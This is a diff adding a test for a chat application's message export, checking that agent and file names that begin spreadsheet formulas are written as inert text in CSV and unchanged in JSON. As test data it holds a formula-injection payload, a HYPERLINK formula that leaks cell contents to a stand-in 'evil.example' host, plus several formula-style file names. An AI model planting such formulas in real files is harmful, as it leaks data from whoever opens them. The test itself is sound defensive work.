@@ -107,3 +107,59 @@ test('only owners, admins and agents with the export permission may export; expo
   assert.ok(exports.length >= 3);
   assert.ok(exports.some((r) => r[2] === exporter.agentId && r[4] === 'messages'));
 });
+
+test('names that are formulas (an agent named =HYPERLINK(…), files named +, -, @ and = …) export as inert text in CSV and exactly in JSON', async () => {
+  const from = Date.now() - 1;
+  const names = {
+    agent: '=HYPERLINK("http://evil.example/?leak="&A1,"Support")',
+    files: ['=1+1.pdf', '+cmd.pdf', '-2+3.pdf', '@SUM(A1).pdf'],
+  };
+  const added = await http(server.url, '/api/v1/agents', {
+    method: 'POST', token: owner.token, body: { email: 'formula@parley.local', name: names.agent, password: 'formula agent password' },
+  });
+  assert.equal(added.status, 201, JSON.stringify(added.body));
+  const signedIn = await http(server.url, '/api/v1/agent/login', { method: 'POST', body: { email: 'formula@parley.local', password: 'formula agent password' } });
+  assert.equal(signedIn.status, 200, JSON.stringify(signedIn.body));
+  const agentToken = signedIn.body.token;
+  const conv = await newConversation(server);
+  const reply = await http(server.url, `/api/v1/conversations/${conv.conversation}/messages`, {
+    method: 'POST', token: agentToken, body: { client_msg_id: msgId('fa'), text: 'a plain reply' },
+  });
+  assert.equal(reply.status, 200, JSON.stringify(reply.body));
+  const stored = [];
+  for (const name of names.files) {
+    const up = await fetch(`${server.url}/api/v1/conversations/${conv.conversation}/files?name=${encodeURIComponent(name)}`, {
+      method: 'POST', headers: { authorization: `Bearer ${conv.token}`, 'content-type': 'application/pdf' }, body: '%PDF-1.4\n%%EOF\n',
+    });
+    const body = await up.json();
+    assert.equal(up.status, 201, JSON.stringify(body));
+    stored.push(body.file.name);
+    const post = await http(server.url, `/api/v1/conversations/${conv.conversation}/messages`, {
+      method: 'POST', token: conv.token, body: { client_msg_id: msgId('ff'), file: body.file.id },
+    });
+    assert.equal(post.status, 200, JSON.stringify(post.body));
+  }
+  // The names are kept as given (only cleaned of paths and controls): they still start a formula.
+  assert.deepEqual(stored, names.files);
+  const head = 2 + names.files.length; // created, reply, files
+  for (let i = 0; i < 100; i += 1) {
+    const { results: [row] } = await server.d1('SELECT COUNT(*) AS n FROM messages WHERE conversation_id = ?1', [conv.conversation]);
+    if (row.n >= head) break;
+    await sleep(100);
+  }
+  const csv = await fetch(`${server.url}/api/v1/export/messages.csv?from=${from}`, { headers: { authorization: `Bearer ${owner.token}` } });
+  assert.equal(csv.status, 200);
+  const rows = parseCsv(await csv.text()).slice(1).filter((r) => r[0] === conv.conversation);
+  assert.equal(rows.length, head);
+  const byKind = (kind) => rows.filter((r) => r[5] === kind);
+  const [agentRow] = byKind('message');
+  assert.equal(agentRow[6], 'agent');
+  assert.equal(agentRow[8], `'${names.agent}`, 'the agent name is written with a leading apostrophe');
+  assert.deepEqual(byKind('file').map((r) => r[9]), names.files.map((n) => `'${n}`));
+  for (const r of rows) for (const field of r) assert.doesNotMatch(field, /^[=+\-@\t\r]/, `formula left active: ${field}`);
+  // JSON has the values exactly.
+  const json = await (await fetch(`${server.url}/api/v1/export/messages.json?from=${from}`, { headers: { authorization: `Bearer ${owner.token}` } })).json();
+  const mine = json.filter((r) => r.conversation_id === conv.conversation);
+  assert.equal(mine.find((r) => r.kind === 'message').author_name, names.agent);
+  assert.deepEqual(mine.filter((r) => r.kind === 'file').map((r) => r.text), names.files);
+});
